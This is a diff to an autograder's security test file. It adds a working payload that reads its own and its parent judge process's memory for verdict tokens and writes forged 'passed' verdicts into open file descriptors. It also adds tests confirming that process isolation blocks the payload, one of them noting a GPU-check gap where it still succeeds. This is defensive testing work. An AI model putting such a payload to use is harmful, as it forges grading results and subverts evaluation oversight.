@@ -24,6 +24,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -68,6 +69,69 @@ def fused_rms_norm(x, w, eps=1e-6):
     print("forged with %d tokens" % len(tokens), file=sys.stderr, flush=True)
     os._exit(0)
 '''
+
+#: Route 1 from memory: every 32-hex string in this process's memory (read through NumPy views of its own
+#: address space, which no guard sees) and in its parent's where it can open it signs a passing verdict on every
+#: descriptor of either process it can open for writing.
+FORGE_FROM_MEMORY = r'''
+import os, re, sys
+import numpy as np
+from numpy.lib.stride_tricks import as_strided
+VERDICT = b'{"passed": true, "message": "", "mistake": null, "not_started": false, "grader_fault": false}'
+TOKEN = rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])"
+def _own():
+    anchor = np.zeros(1, np.uint8)
+    here = anchor.__array_interface__["data"][0]
+    found = set()
+    for line in open("/proc/self/maps").read().splitlines():
+        span, perms = line.split()[:2]
+        start, end = (int(part, 16) for part in span.split("-"))
+        if not perms.startswith("rw") or end - start > 1 << 28 or "[v" in line:
+            continue
+        view = as_strided(anchor, shape=(2, end - start), strides=(start - here, 1), writeable=False)
+        found |= set(re.findall(TOKEN, view[1].tobytes()))
+    return found
+def _parents():
+    try:
+        maps = open("/proc/%d/maps" % os.getppid()).read().splitlines()
+        mem = open("/proc/%d/mem" % os.getppid(), "rb", buffering=0)
+    except OSError:
+        return None
+    found = set()
+    for line in maps:
+        span, perms = line.split()[:2]
+        start, end = (int(part, 16) for part in span.split("-"))
+        if perms.startswith("rw") and end - start <= 1 << 28:
+            try:
+                mem.seek(start)
+                found |= set(re.findall(TOKEN, mem.read(end - start)))
+            except (OSError, OverflowError, ValueError):
+                continue
+    return found
+def _forge():
+    tokens, places = _own(), ["own memory yes"]
+    parents = _parents()
+    tokens |= parents or set()
+    places.append("parent memory %s" % ("no" if parents is None else "yes"))
+    for pid in (os.getpid(), os.getppid()):
+        try:
+            fds = os.listdir("/proc/%d/fd" % pid)
+        except OSError:
+            fds = []
+        for fd in fds:
+            try:
+                target = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_APPEND)
+            except OSError:
+                continue
+            for token in tokens:
+                try:
+                    os.write(target, b"\n" + token + b" " + VERDICT + b"\n")
+                except OSError:
+                    pass
+    print("scanned: %s; %d candidates" % (", ".join(places), len(tokens)), file=sys.stderr, flush=True)
+    os._exit(0)
+'''
+
 
 #: The places the attackers look in: the kernel's and the check's folders up to the sandbox's root, /tmp, /dev/shm
 #: and TMPDIR (named by the test: the sandbox passes no TMPDIR).
@@ -251,10 +315,41 @@ def test_grading_leaves_nothing_in_tmpdir(graded):
 
 
 def test_a_worker_cannot_sign_a_verdict_with_what_it_reads_back(tmp_path):
-    """Route 1 at the worker's level, without a sandbox: the forger finds the stage token in its reply file and
-    signs with it, but the verdict's nonce never was in the file: the check fails, and the forger's own words
-    show that it ran."""
+    """Route 1 at the worker's level, without a sandbox: the student's code runs in a process of its own that never
+    had the reply file nor the verdict's nonce (autograder/isolation/student_process.py): the forger finds nothing
+    to sign with, the check fails, and the forger's own words show that it ran."""
     forger = student(FORGE_IN_WORKER)
     result = run_check("lesson02.equivalence", [pack_one(forger)])
     assert not result.passed and not result.grader_fault, result
-    assert "forged with 1 tokens" in result.message, result.message
+    assert "forged with 0 tokens" in result.message, result.message
+
+
+def test_a_student_process_finds_nothing_that_signs_in_its_memory_or_its_parents():
+    """Route 1 through memory: the student's code reads all of its own memory and tries its parent's (the judge's)
+    memory; its own never held the nonce and the judge's does not open (the guard refuses it, and in a sandbox the
+    judge is not dumpable), so whatever it writes into the descriptors it reaches signs nothing: the check fails.
+    Control: a GPU check, whose student code still runs in the worker itself (here on the emulator), is forged by
+    the same payload — what the student process prevents, and the gap docs/developer.md names."""
+    forger = student(FORGE_FROM_MEMORY + "def fused_rms_norm(x, w, eps=1e-6):\n    _forge()\n")
+    result = run_check("lesson02.equivalence", [pack_one(forger)])
+    assert not result.passed and not result.grader_fault, result
+    assert "own memory yes, parent memory no" in result.message, result.message
+
+    control = student(FORGE_FROM_MEMORY + "def fused_rms_norm_gpu(x, w, eps=1e-6):\n    _forge()\n",
+                      "fused_rms_norm_gpu")
+    result = run_check("lesson07.equivalence", [pack_one(control)])
+    assert result.passed, result
+
+
+def test_memory_hidden_from_tracemalloc_is_counted():
+    """Route 5: lesson 02's answer with its (T, D) float64 temporaries in anonymous mmaps.  tracemalloc sees only the
+    output — within the bound, so this payload passed before — but the judge reads the student process's resident
+    growth and fails it, naming what happened (benchmarks/resident_memory.py prints both numbers)."""
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "benchmarks"))
+    from resident_memory import HIDDEN_IN_MMAP
+
+    result = run_check("lesson02.memory", [pack_one(student(HIDDEN_IN_MMAP))])
+    assert not result.passed and not result.grader_fault, result
+    seen, allowed = (float(n) for n in re.search(r"tracemalloc видел только ([\d.]+) МиБ \(допустимо ([\d.]+)",
+                                                   result.message).groups())
+    assert seen <= allowed and "в обход NumPy" in result.message, result.message  # tracemalloc alone: a pass
